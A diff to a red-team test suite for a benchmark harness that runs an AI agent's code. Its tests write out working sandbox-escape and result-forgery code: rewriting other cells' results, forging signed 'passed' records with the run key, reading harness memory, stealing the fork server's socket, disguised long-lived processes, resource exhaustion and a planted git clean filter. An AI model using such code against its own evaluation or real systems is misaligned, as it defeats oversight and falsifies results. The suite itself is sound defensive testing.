@@ -11,8 +11,9 @@ saying what breaks, so the suite stays green and flips the day a fix lands.
 Most attacks run the agent's code the way a cell's checks do (`checks.run_checks`: the fork
 server, a supervisor, a disposable copy); the others run a whole session (`python -m pytest
 --ponybench`) with a hostile stand-in CLI built on tests/fakes/fake_claude.py. Nothing here
-reaches a network. Whatever an attack leaves running carries MARK in its argv and is killed
-after each test, whether the attack worked or not.
+reaches a network. Whatever an attack leaves running (or writes outside its copy) carries the
+test's own marker (`mark`) in its argv or name and is killed or removed after each test, whether
+the attack worked or not.
 """
 from __future__ import annotations
 
@@ -75,22 +76,22 @@ def ancestor(name):
 # --------------------------------------------------------------------------- clean-up
 
 
-def marked_pids() -> list[int]:
+def marked_pids(mark: str) -> list[int]:
     found = []
     for entry in os.listdir("/proc"):
         if not entry.isdigit() or int(entry) == os.getpid():
             continue
         try:
             with open(f"/proc/{entry}/cmdline", "rb") as fh:
-                if MARK.encode() in fh.read():
+                if mark.encode() in fh.read():
                     found.append(int(entry))
         except OSError:
             continue
     return found
 
 
-def kill_marked() -> None:
-    for pid in marked_pids():
+def kill_marked(mark: str) -> None:
+    for pid in marked_pids(mark):
         try:
             os.kill(pid, signal.SIGCONT)
             os.kill(pid, signal.SIGKILL)
@@ -98,12 +99,12 @@ def kill_marked() -> None:
             pass
 
 
-def leftovers(timeout: float = 3.0) -> list[int]:
-    """Processes carrying MARK still alive after `timeout` (zombies do not count)."""
+def leftovers(mark: str, timeout: float = 3.0) -> list[int]:
+    """Processes carrying `mark` still alive after `timeout` (zombies do not count)."""
     deadline = time.monotonic() + timeout
     while True:
         alive = []
-        for pid in marked_pids():
+        for pid in marked_pids(mark):
             try:
                 with open(f"/proc/{pid}/stat") as fh:
                     stat = fh.read()
@@ -117,10 +118,13 @@ def leftovers(timeout: float = 3.0) -> list[int]:
 
 
 @pytest.fixture(autouse=True)
-def nothing_left_running():
-    yield
-    kill_marked()
-    for path in glob.glob(os.path.join(tempfile.gettempdir(), "redteam20-*")) + glob.glob("/dev/shm/redteam20-*"):
+def mark():
+    """This test's own marker (tests run side by side under -n 2): whatever carries it in its
+    argv or name is killed or removed after the test, whether the attack worked or not."""
+    token = f"{MARK}-{secrets.token_hex(4)}"
+    yield token
+    kill_marked(token)
+    for path in glob.glob(os.path.join(tempfile.gettempdir(), f"{token}*")) + glob.glob(f"/dev/shm/{token}*"):
         try:
             os.unlink(path)
         except OSError:
@@ -479,3 +483,340 @@ def test_a_link_to_another_cell_s_passed_code_does_not_pass_as_this_cell_s(tmp_p
     ws.mkdir()
     (ws / "add.py").symlink_to(other / "add.py")
     assert not judged(ws)["correct"].ok
+
+
+# --------------------------------------------------------------------------- other cells, the run's records, the harness
+
+
+def runs_project(tmp_path: Path, monkeypatch) -> tuple[Path, RunDir]:
+    """A project with a run directory under runs/, as a session leaves it, and the harness's
+    working directory there (the project's root, as pytest's is)."""
+    project = tmp_path / "project"
+    run_dir = RunDir.create(project / "runs")
+    monkeypatch.chdir(project)
+    return project, run_dir
+
+
+@pytest.mark.xfail(strict=True, reason="the check reads /proc/<harness>/cwd, finds runs/ there and rewrites "
+                                       "another cell's code and results.jsonl")
+def test_a_check_does_not_reach_other_cells_through_the_harness_s_working_directory(tmp_path, monkeypatch):
+    """Attack: no environment variable needed. The delivered code walks up its ancestors to the
+    harness, reads /proc/<harness>/cwd (the project), and through runs/*/ rewrites another
+    cell's delivered code and appends a forged line to results.jsonl. Promise: a cell never
+    touches another cell or the run's records."""
+    project, run_dir = runs_project(tmp_path, monkeypatch)
+    other = cell_workspace(run_dir.path, GOOD_ADD["add.py"], name=CELL(1))
+    run_dir.results_path.write_text(json.dumps({"cell": CELL(1), "passed": True}) + "\n")
+    before = (other / "add.py").read_text(), run_dir.results_path.read_text()
+    ws = cell_workspace(run_dir.path, attacked(FIND_HARNESS + f"""
+import glob
+_root = _os.readlink(f"/proc/{{harness_pid()}}/cwd")
+for _path in glob.glob(_os.path.join(_root, "runs", "*", "*", "add.py")):
+    if {CELL(0)!r} not in _path:
+        with open(_path, "w") as _fh:
+            _fh.write("def add(a, b):\\n    return 0\\n")
+for _path in glob.glob(_os.path.join(_root, "runs", "*", "results.jsonl")):
+    with open(_path, "a") as _fh:
+        _fh.write('{{"cell": "{CELL(1)}", "passed": false}}\\n')
+"""), name=CELL(0))
+    judged(ws)
+    assert ((other / "add.py").read_text(), run_dir.results_path.read_text()) == before
+
+
+@pytest.mark.xfail(strict=True, reason="the run's key is a file of the same user: the check reads it and seals a "
+                                       "passed result for a cell that never ran, which a resume reuses")
+def test_a_check_cannot_seal_a_result_for_another_cell_with_the_run_s_key(tmp_path, monkeypatch):
+    """Attack: the delivered code finds the run (the harness's cwd), the key folder (its own
+    environment, else the harness's /proc/<pid>/environ, else the default cache path), reads
+    the run's key and, with the harness's own rundir.write_record, seals a passed, free result
+    for a cell that was only seeded. Promise: resume trusts only records the agent cannot
+    write; a cell that never ran is never reused as finished."""
+    project, run_dir = runs_project(tmp_path, monkeypatch)
+    victim = cell.Cell(a_task(tmp_path, ADD_CHECK, refs=False), ArmSpec(name="baseline", path=None), "haiku", MODEL_ID, 1)
+    from pytest_ponybench.rundir import write_record
+
+    victim_ws = run_dir.cell_dir(victim.id)
+    victim_ws.mkdir()
+    write_record(victim_ws, "cell", cell.identity(victim), run_dir.key)  # seeded, never ran
+    assert cell.kept_result(victim, run_dir) is None
+    ws = cell_workspace(run_dir.path, attacked(FIND_HARNESS + f"""
+import glob, json
+from pathlib import Path
+from pytest_ponybench import rundir as _rundir
+_h = harness_pid()
+try:
+    with open(f"/proc/{{_h}}/environ", "rb") as _fh:
+        _env = dict(x.split("=", 1) for x in _fh.read().decode(errors="replace").split("\\0") if "=" in x)
+except OSError:
+    _env = {{}}
+_env.update(_os.environ)
+_keys = _env.get("PONYBENCH_KEY_DIR") or _os.path.join(
+    _env.get("XDG_CACHE_HOME") or _os.path.join(_env.get("HOME", "/root"), ".cache"), "pytest-ponybench", "run-keys")
+_root = _os.readlink(f"/proc/{{_h}}/cwd")
+for _id_file in glob.glob(_os.path.join(_root, "runs", "*", "_ponybench.run-id")):
+    _run = Path(_id_file).parent
+    with open(_os.path.join(_keys, Path(_id_file).read_text().strip() + ".key")) as _fh:
+        _key = bytes.fromhex(_fh.read().strip())
+    for _identity in glob.glob(str(_run / "_ponybench.records" / "*" / "cell.json")):
+        _data = json.loads(Path(_identity).read_text())["data"]
+        if _data["cell"] == {CELL(0)!r}:
+            continue
+        _record = dict(_data, status="finished", ran=True, passed=True, correct=1, safe=None, correct_reason="ok",
+                       failure="", error="", cost_usd=0.0)
+        _rundir.write_record(_run / _data["cell"], "result", _record, _key)
+"""), name=CELL(0))
+    judged(ws)
+    assert cell.kept_result(victim, run_dir) is None, "a cell that never ran is reused as finished and passed"
+
+
+def test_a_check_inherits_no_descriptor_of_the_harness(tmp_path):
+    """Attack: the delivered code lists every descriptor it was born with, looking for the
+    harness's (the fork server's socket, the status pipe, the run's files, the transcript) to
+    write through, and reports them in its failure. Promise: the agent's code gets its three
+    standard streams and nothing else, stdin from /dev/null."""
+    ws = cell_workspace(tmp_path, attacked("""
+        import json, os
+        _fds = {}
+        for _fd in os.listdir("/proc/self/fd"):
+            try:
+                _fds[_fd] = os.readlink(f"/proc/self/fd/{_fd}")
+            except OSError:
+                pass
+        raise AssertionError("descriptors " + json.dumps(_fds))
+        """))
+    reason = judged(ws)["correct"].reason
+    assert reason.startswith("descriptors "), reason
+    fds = json.loads(reason.split(" ", 1)[1])
+    assert set(fds) <= {"0", "1", "2"}, fds
+    assert fds.get("0") == "/dev/null", fds
+    assert not any(target.startswith(("socket:", "pipe:")) for target in fds.values()), fds
+
+
+@pytest.mark.xfail(strict=True, reason="the check can SIGSTOP its grandparent, the fork server; the next cell's "
+                                       "request then waits without a deadline")
+def test_stopping_the_fork_server_does_not_hang_the_next_cell(tmp_path):
+    """Attack: the delivered code sends SIGSTOP to the fork server above it (found by walking
+    up to `pony-server`) and lets its check fail. The next cell asks the stopped server for a
+    supervisor. Promise: nothing untrusted can signal the harness, and the session always
+    ends with results."""
+    ws = cell_workspace(tmp_path / "a", attacked(FIND_HARNESS + """
+import signal
+_server = ancestor("pony-server")
+if _server:
+    _os.kill(_server, signal.SIGSTOP)
+    raise AssertionError(f"stopped {_server}")
+"""))
+    done: list = []
+    follower = None
+    stopped = None
+    try:
+        reason = judged(ws)["correct"].reason
+        stopped = int(reason.split()[1]) if reason.startswith("stopped ") else None
+        honest = cell_workspace(tmp_path / "b", GOOD_ADD["add.py"])
+        follower = threading.Thread(target=lambda: done.append(judged(honest)), daemon=True)
+        follower.start()
+        follower.join(12)  # an honest check ends in well under a second
+        assert done and done[0]["correct"].ok, "the next cell's checks never came back: the fork server is stopped"
+    finally:
+        server = procs._server
+        for pid in {stopped, server.proc.pid if server is not None else None} - {None}:
+            try:
+                os.kill(pid, signal.SIGCONT)
+            except ProcessLookupError:
+                pass
+        if follower is not None:
+            follower.join(CHECK_TIMEOUT + 10)
+
+
+@pytest.mark.xfail(strict=True, reason="same user (root) and no PID namespace: the check reads the harness's "
+                                       "memory through /proc/<pid>/mem")
+def test_a_check_cannot_read_a_secret_out_of_the_harness_s_memory(tmp_path):
+    """Attack: the delivered code opens /proc/<harness>/mem and scans every writable mapping
+    for a secret the harness holds (here a marked token; in a run, the run's key or the API
+    key), then reports what it found in its failure message, which the harness stores in
+    results.jsonl. Promise: nothing untrusted can read or trace the harness."""
+    held = "redteam20-secret-" + secrets.token_hex(16)  # lives in this (the harness's) memory
+    ws = cell_workspace(tmp_path, attacked(FIND_HARNESS + """
+import re
+_h = harness_pid()
+_found = set()
+_pattern = re.compile(rb"redteam20-secret-([0-9a-f]{32})")
+try:
+    with open(f"/proc/{_h}/maps") as _fh:
+        _regions = [line.split() for line in _fh]
+    with open(f"/proc/{_h}/mem", "rb", buffering=0) as _mem:
+        for _region in _regions:
+            if not _region[1].startswith("rw"):
+                continue
+            _start, _end = (int(x, 16) for x in _region[0].split("-"))
+            _at = _start
+            while _at < _end:
+                _size = min(16 << 20, _end - _at)
+                try:
+                    _mem.seek(_at)
+                    _data = _mem.read(_size + 64 if _at + _size < _end else _size)
+                except (OSError, ValueError, OverflowError):
+                    break
+                _found.update(m.group(1).decode() for m in _pattern.finditer(_data or b""))
+                _at += _size
+except OSError as _exc:
+    raise AssertionError(f"could not read the harness: {_exc}")
+raise AssertionError("found " + ",".join(sorted(_found)))
+"""))
+    reason = judged(ws, timeout=60)["correct"].reason
+    assert held[len("redteam20-secret-"):] not in reason, reason[:200]
+
+
+@pytest.mark.xfail(strict=True, reason="pidfd_getfd as root steals the harness's socket to the fork server; the "
+                                       "server starts the check's program, which outlives the cell")
+def test_a_check_cannot_order_the_fork_server_to_start_a_process_of_its_own(tmp_path, mark):
+    """Attack: the delivered code takes a copy of the harness's end of the fork server's
+    socket (pidfd_open + pidfd_getfd on the harness) and sends the server an `exec` request
+    of its own: a sleeper the server supervises for the harness, beyond the cell's sweep.
+    Promise: nothing outlives the cell, and nothing untrusted speaks for the harness."""
+    ws = cell_workspace(tmp_path, attacked(FIND_HARNESS + f"""
+import ctypes, json, socket, sys
+_libc = ctypes.CDLL(None, use_errno=True)
+_h = harness_pid()
+_pidfd = _libc.syscall(434, _h, 0)  # pidfd_open
+for _fd in _os.listdir(f"/proc/{{_h}}/fd"):
+    try:
+        if not _os.readlink(f"/proc/{{_h}}/fd/{{_fd}}").startswith("socket:"):
+            continue
+    except OSError:
+        continue
+    _stolen = _libc.syscall(438, _pidfd, int(_fd), 0)  # pidfd_getfd
+    if _stolen < 0:
+        continue
+    _sock = socket.socket(fileno=_stolen)
+    if _sock.family != socket.AF_UNIX or _sock.type != socket.SOCK_SEQPACKET:
+        _sock.detach()
+        _os.close(_stolen)
+        continue
+    _null = _os.open(_os.devnull, _os.O_RDWR)
+    _r, _w = _os.pipe()  # every such socket: a stale one of a server that was replaced is no use
+    _request = {{"op": "exec", "argv": [sys.executable, "-c", "import time; time.sleep(600)", {mark!r}],
+                "env": dict(_os.environ), "cwd": "/", "max_file_size": None}}
+    try:
+        socket.send_fds(_sock, [json.dumps(_request).encode()], [_null, _null, _null, _w])
+        _sock.settimeout(60)  # the reply, before the harness's next request can take it
+        _sock.recv(65536)
+    except OSError:
+        pass
+"""))
+    judged(ws)
+    assert leftovers(mark) == [], "a process the check ordered from the fork server outlived the cell"
+
+
+def test_a_renamed_child_in_its_own_group_waiting_for_the_check_to_end_does_not_outlive_it(tmp_path, mark):
+    """Attack: the delivered code forks a child that moves to its own process group, renames
+    itself like a kernel thread and blocks on a pipe until the check process is gone; then it
+    double-forks a grandchild that leads its own session under another name. Promise: nothing
+    the agent's code starts outlives its check."""
+    ws = cell_workspace(tmp_path, attacked(f"""
+        import ctypes, os, sys
+        _r, _w = os.pipe()
+        if os.fork() == 0:
+            try:
+                os.setpgid(0, 0)
+                os.close(_w)
+                ctypes.CDLL(None).prctl(15, b"kworker/u4:2", 0, 0, 0)
+                os.read(_r, 1)  # end of file: the check process has ended
+                if os.fork() == 0:
+                    os.setsid()
+                    os.execv(sys.executable, ["kworker/u4:3", "-c",
+                             "import ctypes, time; ctypes.CDLL(None).prctl(15, b'kworker/u4:3', 0, 0, 0); time.sleep(600)",
+                             {mark!r}])
+            finally:
+                os._exit(0)
+        os.close(_r)
+        """))
+    judged(ws)
+    assert leftovers(mark) == []
+
+
+@pytest.mark.xfail(strict=True, reason="a check may write anywhere under /tmp and /dev/shm, and what it writes "
+                                       "outside its copy stays after the cell")
+def test_files_a_check_writes_outside_its_copy_do_not_outlive_the_cell(tmp_path, mark):
+    """Attack: the delivered code leaves files in the shared temporary folder and in
+    /dev/shm, outside the disposable copy the harness removes (a later cell's code can read
+    them: a channel between cells, or the start of a full disk). Promise: nothing outlives the
+    cell."""
+    ws = cell_workspace(tmp_path, attacked(f"""
+        import os, tempfile
+        for _folder in (tempfile.gettempdir(), "/dev/shm"):
+            try:
+                with open(os.path.join(_folder, {mark!r} + str(os.getpid())), "w") as _fh:
+                    _fh.write("left for the next cell")
+            except OSError:
+                pass
+        """))
+    judged(ws)
+    left = glob.glob(os.path.join(tempfile.gettempdir(), f"{mark}*")) + glob.glob(f"/dev/shm/{mark}*")
+    assert left == []
+
+
+@pytest.mark.xfail(strict=True, reason="a check has no memory cap: it allocates and touches 2 GiB")
+def test_a_check_cannot_take_2_gib_of_memory(tmp_path):
+    """Attack: the delivered code allocates and touches memory 64 MiB at a time, up to 2 GiB
+    (enough, on a busy 2-core machine, to push other cells' checks and the harness into the
+    OOM killer), and says how far it got. Promise: a memory limit stops it well before."""
+    ws = cell_workspace(tmp_path, attacked("""
+        _chunks, _got = [], 0
+        try:
+            while _got < 2048:
+                _chunks.append(b"\\x01" * (64 << 20))
+                _got += 64
+            _said = f"allocated {_got} MiB"
+        except MemoryError:
+            _said = f"refused at {_got} MiB"
+        del _chunks
+        raise AssertionError(_said)
+        """))
+    reason = judged(ws)["correct"].reason
+    assert "allocated 2048 MiB" not in reason, reason
+
+
+@pytest.mark.xfail(strict=True, reason="a check has no process-count limit: it starts 2,000 threads")
+def test_a_check_cannot_start_thousands_of_threads(tmp_path):
+    """Attack: the delivered code starts threads (each a task of the kernel, counted against
+    the machine's pid_max, 32768 here) until it is refused or reaches 2,000. Promise: a
+    process-count limit refuses it first."""
+    ws = cell_workspace(tmp_path, attacked("""
+        import threading
+        threading.stack_size(256 * 1024)
+        _stop, _n = threading.Event(), 0
+        try:
+            while _n < 2000:
+                threading.Thread(target=_stop.wait, daemon=True).start()
+                _n += 1
+            _said = f"started {_n} threads"
+        except (RuntimeError, MemoryError):
+            _said = f"refused at {_n} threads"
+        _stop.set()
+        raise AssertionError(_said)
+        """))
+    reason = judged(ws)["correct"].reason
+    assert "started 2000 threads" not in reason, reason
+
+
+@pytest.mark.xfail(strict=True, reason="scoring a fixture runs `git add -A` in the workspace, whose .git/config "
+                                       "the agent wrote: its clean filter runs in the harness")
+def test_a_git_clean_filter_planted_in_a_fixture_workspace_does_not_run_when_scored(tmp_path):
+    """Attack: in a fixture task's workspace the agent writes `.gitattributes` (`* filter=x`)
+    and a `[filter "x"] clean = <command>` into .git/config. Scoring (cell.score_cell ->
+    metrics.diff_stats) stages the tree with `git add -A`, which runs the filter: the agent's
+    command runs in the harness, outside any sandbox or time limit, at scoring and again at
+    every rescore. Promise: scoring runs nothing of the agent's."""
+    ws = tmp_path / "runs" / CELL(0)
+    ws.mkdir(parents=True)
+    (ws / "app.py").write_text("x = 1\n")
+    workspace.snapshot(ws)
+    ran = tmp_path / "ran-in-the-harness"
+    (ws / "app.py").write_text("x = 2\ny = 3\n")  # the agent's change
+    (ws / ".gitattributes").write_text("* filter=redteam\n")
+    with open(ws / ".git" / "config", "a") as fh:
+        fh.write(f"[filter \"redteam\"]\n\tclean = tee -a {ran}\n")  # passes the file through, and keeps a copy
+    stats = metrics.diff_stats(ws)
+    assert stats["total_loc"] >= 1  # scored all the same
+    assert not ran.exists(), "the agent's command ran in the harness while the workspace was scored"
